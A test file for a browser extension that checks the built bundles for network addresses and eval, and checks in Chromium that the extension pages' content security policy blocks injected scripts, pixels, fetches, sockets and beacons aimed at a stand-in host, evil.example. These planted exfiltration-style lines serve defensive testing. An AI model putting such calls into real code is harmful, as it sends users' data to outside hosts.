import { mkdtempSync, mkdirSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join, resolve } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { bundledCitations, scanBundle } from '../../scripts/scan-bundle.mjs';
import { EXTENSION_DIR, launch, type Session } from './harness';
import { extensionPages } from './trust-pages';

const outDir = resolve(process.env.COCREATE_OUT_DIR ?? '.output');

describe('nothing leaked: the built bundles', () => {
  it.each(['chrome-mv3', 'firefox-mv2'])('%s holds no fetchable address and no eval', (target) => {
    const { urls, dynamicCode } = scanBundle(join(outDir, target));
    expect(urls).toEqual([]);
    expect(dynamicCode).toEqual([]);
  });

  it('the scanner itself finds a planted address and eval (so a pass means something)', () => {
    const dir = mkdtempSync(join(tmpdir(), 'cocreate-scan-'));
    mkdirSync(join(dir, 'chunks'));
    writeFileSync(
      join(dir, 'chunks', 'x.js'),
      'fetch("https://evil.example/collect?d=1");eval(x);const f=new Function("return 1");const ns="http://www.w3.org/2000/svg";' +
        'const cited="https://doi.org/10.1/cited(1)x",uncited="https://doi.org/10.1/other";',
    );
    const { urls, dynamicCode, allowedUrls } = scanBundle(dir, ['https://doi.org/10.1/cited(1)x']);
    expect(urls.map((u) => u.url)).toEqual([
      'https://evil.example/collect?d=1',
      'https://doi.org/10.1/other',
    ]);
    expect(dynamicCode.map((d) => d.kind)).toEqual(['eval(', 'new Function']);
    expect(allowedUrls.map((u) => u.url)).toEqual([
      'http://www.w3.org/2000/svg',
      'https://doi.org/10.1/cited',
    ]);
  });

  it('allows only the exact source links that the bundled option grids cite', () => {
    const citations = bundledCitations();
    expect(citations.length).toBeGreaterThan(10);
    for (const url of citations) expect(url).toMatch(/^https:\/\/[^/]+\.[a-z]+\//);
  });
});

/** Every extension page in the build, listed from entrypoints/ so new pages are probed as they land. */
const PAGES = extensionPages();

describe('nothing leaked: the content security policy in real Chromium', () => {
  let session: Session;
  beforeAll(async () => {
    session = await launch();
  });
  afterAll(async () => {
    await session.close();
  });

  it.each(PAGES)('%s refuses inline script, remote script, fetch and remote images', async (path) => {
    const page = await session.openExtensionPage(path);
    await page.waitForLoadState('load');
    // page.evaluate itself is exempt from CSP, so it only plants content the page would then run.
    const result = await page.evaluate(async (demoUrl) => {
      const blocked: string[] = [];
      document.addEventListener('securitypolicyviolation', (event) => {
        blocked.push(`${event.effectiveDirective} ${event.blockedURI}`);
      });
      const trap = globalThis as { __pwned?: boolean };
      trap.__pwned = false;
      const inline = document.createElement('script');
      inline.textContent = 'window.__pwned = true';
      document.body.append(inline);
      const remote = document.createElement('script');
      remote.src = 'https://evil.example/x.js';
      document.body.append(remote);
      const img = document.createElement('img');
      img.src = 'https://evil.example/pixel.png';
      document.body.append(img);
      const handler = document.createElement('div');
      handler.setAttribute('onclick', 'window.__pwned = true');
      document.body.append(handler);
      handler.click();
      const attempt = async (url: string) => {
        try {
          await fetch(url);
          return 'fetched';
        } catch {
          return 'blocked';
        }
      };
      const remoteFetch = await attempt('https://evil.example/collect');
      const localFetch = await attempt(demoUrl);
      try {
        new WebSocket('wss://evil.example/socket');
      } catch {
        // Older Chromium threw here; newer ones report a violation instead.
      }
      navigator.sendBeacon('https://evil.example/beacon', 'x');
      await new Promise((r) => setTimeout(r, 1000));
      return { pwned: trap.__pwned, remoteFetch, localFetch, blocked };
    }, session.demoUrl);

    expect(result.pwned).toBe(false);
    expect(result.remoteFetch).toBe('blocked');
    expect(result.localFetch).toBe('blocked');
    expect(result.blocked).toEqual(
      expect.arrayContaining([
        'script-src-elem inline',
        'script-src-elem https://evil.example/x.js',
        'script-src-attr inline',
        'img-src https://evil.example/pixel.png',
        'connect-src https://evil.example/collect',
        `connect-src ${new URL(session.demoUrl).origin}/`,
        'connect-src wss://evil.example/socket',
        'connect-src https://evil.example/beacon',
      ]),
    );
    expect(session.offMachineRequests).toEqual([]);
    await page.close();
  });

  it('the extension under test is the freshly built one', () => {
    expect(EXTENSION_DIR).toBe(join(outDir, 'chrome-mv3'));
  });
});
